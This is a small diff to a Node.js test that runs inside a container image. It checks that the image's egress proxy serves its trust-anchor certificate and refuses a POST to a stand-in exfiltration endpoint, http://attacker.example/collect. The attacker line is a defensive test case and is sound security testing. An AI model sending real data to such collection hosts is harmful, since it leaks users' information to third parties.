@@ -1,4 +1,4 @@
-// Runs inside the image, for scripts/test-image.sh: what is in it and what is not, and a request through its proxy.
+// Runs inside the image, for image.test.ts: what is in it and what is not, and a request through its proxy.
 
 const assert = require("node:assert/strict");
 const events = require("node:events");
@@ -22,9 +22,7 @@ async function main() {
   assert.match(anchor.body, /^-----BEGIN CERTIFICATE-----/);
   const stolen = await ask("POST", "http://attacker.example/collect");
   assert.deepEqual([stolen.status, stolen.headers["sallyport-reason"]], [403, "host-not-allowed"]);
-  console.log(
-    "test-image: not root, read-only, no shell, no tools; serves its trust anchor, refuses the attacker",
-  );
+  process.stdout.write("done\n");
 }
 
 async function ask(method, url) {
